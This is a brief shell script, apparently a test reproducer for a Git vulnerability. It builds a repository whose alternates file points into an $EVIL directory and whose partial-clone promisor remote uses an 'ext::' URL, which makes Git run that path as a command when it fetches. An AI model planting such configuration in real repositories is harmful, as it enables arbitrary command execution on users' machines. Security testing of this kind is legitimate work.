git -c init.defaultBranch=m init -q .
echo text >file
git add file
git -c user.name=x -c user.email=x@example.org commit -q -m x
mkdir -p "$EVIL/objects"
echo "$EVIL/objects" >.git/objects/info/alternates
git config extensions.partialClone origin
git config remote.origin.url "ext::$EVIL/objects"
git config remote.origin.promisor true
